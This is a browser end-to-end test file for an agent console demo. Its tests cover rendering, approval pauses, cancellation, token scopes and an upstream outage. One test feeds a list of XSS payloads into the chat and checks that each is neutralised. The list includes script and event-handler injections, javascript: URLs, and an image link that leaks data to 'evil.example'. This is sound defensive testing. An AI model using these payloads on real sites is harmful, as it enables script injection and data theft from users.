/**
 * Tests the console with the demo: each page's main task, all kinds of pauses, stop, reload and content security policy.
 */
import { expect, test } from 'vitest'
import { SECRET, tokenFor } from '../support/tokens.ts'
import { useChromium } from './support/chromium.ts'
import { gatewayToDemo, openConsole, say } from './support/console.ts'

const browser = useChromium()

test('an answer shows reasoning, a table, code, a picture and its sources', async () => {
  const { page, faults } = await openConsole(browser, await gatewayToDemo(), '#/play/agents/report')
  await say(page, 'figures', 'completed')
  const answer = page.locator('.answer')
  await answer.getByText('Reasoning').waitFor()
  expect(await answer.locator('table tbody tr').count()).toBe(2)
  await answer.locator('pre code .hljs-keyword').first().waitFor()
  expect(await answer.locator('img').getAttribute('src')).toMatch(/^blob:/)
  await answer.getByText('2 sources').click()
  expect(await answer.getByRole('link', { name: 'Quarterly figures' }).getAttribute('rel')).toBe(
    'noreferrer noopener',
  )
  await page.getByRole('button', { name: /^Events/ }).click()
  await page.locator('.raw-event', { hasText: 'RunCompleted' }).waitFor()
  await page.getByRole('button', { name: 'Request', exact: true }).click()
  await page.getByText('POST http').waitFor()
  await page.getByRole('button', { name: 'Python' }).click()
  await page.getByText('AgentOSClient(base_url=').waitFor()
  expect(faults).toEqual([])
})

test('a confirmation is approved and another is rejected with a note', async () => {
  const { page } = await openConsole(browser, await gatewayToDemo(), '#/play/agents/confirm')
  await say(page, 'delete a.txt', 'paused')
  await page.getByRole('button', { name: 'Approve' }).click()
  await page.getByText('Done: a.txt is deleted.').waitFor()
  await say(page, 'delete b.txt', 'paused')
  await page.getByPlaceholder('Note').fill('keep it')
  await page.getByRole('button', { name: 'Reject' }).click()
  await page.getByText('As you wish: b.txt stays.').waitFor()
})

test('input, feedback and external execution are answered by their forms', async () => {
  const { page } = await openConsole(browser, await gatewayToDemo(), '#/play/agents/desk')
  await say(page, 'input', 'paused')
  await page.getByLabel('seats').fill('two')
  expect(await page.getByRole('button', { name: 'Submit' }).isDisabled()).toBe(true)
  await page.getByLabel('seats').fill('2')
  await page.getByRole('button', { name: 'Submit' }).click()
  await page.getByText('Your flight is booked.').waitFor()
  await say(page, 'choose', 'paused')
  await page.getByLabel('Friendly').check()
  await page.getByRole('button', { name: 'Submit' }).click()
  await page.getByText('I write the letter in that tone.').waitFor()
  await say(page, 'elsewhere', 'paused')
  await page.getByLabel('Result of the call').fill('total 0')
  await page.getByRole('button', { name: 'Submit' }).click()
  await page.getByText('Thank you, I have the result.').waitFor()
})

test('the inbox finds a paused run and answers it', async () => {
  const gateway = await gatewayToDemo()
  const body = new URLSearchParams({ message: 'delete c.txt', stream: 'false', user_id: 'ada' })
  await fetch(`${gateway}/agents/confirm/runs`, { method: 'POST', body })
  const { page } = await openConsole(browser, gateway, '#/inbox')
  const card = page.locator('.panel', { hasText: 'asked by ada' })
  await card.getByText('delete_file').waitFor()
  await card.getByRole('button', { name: 'Approve' }).click()
  await page.getByText('Nothing waits for a person.').waitFor()
})

test('the stop button cancels a run, and a reload resumes one', async () => {
  const gateway = await gatewayToDemo()
  const { page } = await openConsole(browser, gateway, '#/play/agents/slow')
  await page.getByLabel('Message', { exact: true }).fill('count to 400')
  await page.getByRole('button', { name: 'Send' }).click()
  await page.getByText('1 2 3').waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await page.locator('.turn-foot', { hasText: 'cancelled' }).waitFor()
  await page.getByLabel('background').check()
  await page.getByLabel('Message', { exact: true }).fill('count to 60')
  await page.getByRole('button', { name: 'Send' }).click()
  await page.locator('.turn').last().getByText('1 2 3 4').waitFor()
  await page.reload()
  await page.getByText('58 59 60').waitFor()
  await page.locator('.turn').last().locator('.turn-foot', { hasText: 'completed' }).waitFor()
})

test('the page Live lists a run in flight and cancels it', async () => {
  const gateway = await gatewayToDemo()
  const body = new URLSearchParams({ message: 'count to 400', stream: 'true' })
  const run = fetch(`${gateway}/agents/slow/runs`, { method: 'POST', body })
  const { page } = await openConsole(browser, gateway, '#/live')
  const row = page.locator('tr', { hasText: 'agents/slow' })
  await row.getByRole('button', { name: 'Cancel' }).click()
  expect(await (await run).text()).toContain('RunCancelled')
  await page.getByText('Nothing is in progress.').waitFor()
})

test('a refused page names the scope that the token lacks', async () => {
  const auth = { mode: 'jwt', authorization: true, keys: [{ alg: 'HS256', secret: SECRET }] }
  const { page, go } = await openConsole(browser, await gatewayToDemo({ auth }), '#/access')
  await page.getByText('Not authenticated.').waitFor()
  const token = tokenFor({ sub: 'ada', scopes: ['agents:read'] })
  await page.getByLabel('Token', { exact: true }).fill(token)
  await page.getByLabel('keep until this tab is closed').check()
  await page.getByRole('button', { name: 'Use token' }).click()
  await page.getByText('✓ agents:read').waitFor()
  await go('#/')
  await page.getByText('This token lacks the scope').waitFor()
  await page.getByText('agent_os:admin').first().waitFor()
  await go('#/catalogue')
  await page.getByText('Echo').first().waitFor()
  expect(await page.evaluate('document.cookie')).toBe('')
})

const ATTACKS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1">',
  '[x](javascript:window.hacked=1)',
  '<a href="data:text/html,<script>window.hacked=1</script>">x</a>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  '![x](https://evil.example/leak?q=secret)',
  '<div style="position:fixed;inset:0">x</div>',
  '<base href=https://evil.example>',
  '<object data="javascript:window.hacked=1">',
]

test('nothing that a model or a user writes is executed, loaded or styled', async () => {
  const gateway = await gatewayToDemo()
  const { page, faults, go } = await openConsole(browser, gateway, '#/play/agents/echo')
  const requested: string[] = []
  page.on('request', (request) => requested.push(request.url()))
  for (const attack of ATTACKS) await say(page, attack, 'completed')
  const chat = page.locator('.chat')
  for (const tag of ['script', 'iframe', 'style', 'form', 'object', 'base', 'img', 'svg']) {
    expect(await chat.locator(`.markdown ${tag}`).count()).toBe(0)
  }
  expect(await chat.locator('.markdown [style], .markdown [onerror]').count()).toBe(0)
  expect(await chat.locator('.markdown a[href^="javascript"], a[href^="data"]').count()).toBe(0)
  for (const hash of ['#/data/sessions', '#/inbox', '#/live', '#/traffic']) await go(hash)
  expect(await page.evaluate('window.hacked')).toBeUndefined()
  expect(requested.filter((url) => !url.startsWith(gateway) && /^https?:/.test(url))).toEqual([])
  expect(faults).toEqual([])
})

test('the open overview shows an upstream that goes down', async () => {
  const { startDemo } = await import('../../demo/index.ts')
  const demo = await startDemo()
  const { gatewayWithConsole } = await import('./support/console.ts')
  const gateway = await gatewayWithConsole({ upstreams: demo.upstreams, config_ttl: '1s' })
  const { page } = await openConsole(browser, gateway)
  await page.getByText('ready').first().waitFor()
  await demo.close()
  await page.getByText('failing').first().waitFor()
})
